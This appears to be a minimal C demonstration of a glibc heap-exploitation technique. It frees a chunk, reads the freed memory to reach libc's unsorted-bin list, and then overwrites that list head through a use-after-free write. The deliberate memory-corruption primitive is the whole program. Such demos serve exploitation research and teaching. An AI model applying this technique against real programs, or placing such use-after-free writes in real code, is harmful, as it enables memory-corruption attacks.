/* The head of the unsorted list, in libc's data, is overwritten. */
#include <stdlib.h>

int main(void) {
    size_t *a = malloc(0x928), *guard = malloc(40), *unsorted;
    free(a);
    unsorted = (size_t *)a[0];
    malloc(3000);
    unsorted[2] = (size_t)guard;
    malloc(0x8f8);
    return 0;
}
